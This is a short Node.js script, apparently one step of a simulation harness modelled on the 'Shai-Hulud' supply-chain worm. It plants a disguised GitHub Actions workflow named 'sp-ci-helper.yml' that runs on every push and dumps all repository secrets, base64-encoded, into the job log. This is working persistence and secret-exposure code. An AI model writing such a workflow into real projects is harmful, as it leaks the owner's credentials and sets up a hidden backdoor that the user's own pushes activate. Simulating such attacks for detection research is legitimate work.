'use strict';
// Shai-Hulud: a GitHub Actions workflow planted in the project, pushed later by the
// user's own git, runs with the repository's secrets.
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  const dir = path.join(lib.projectRoot(), '.github', 'workflows');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(
    path.join(dir, 'sp-ci-helper.yml'),
    `# sp-persist-${lib.cfg.runTag}\nname: helper\non: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ toJSON(secrets) }}" | base64\n`,
  );
  lib.did('wrote');
});
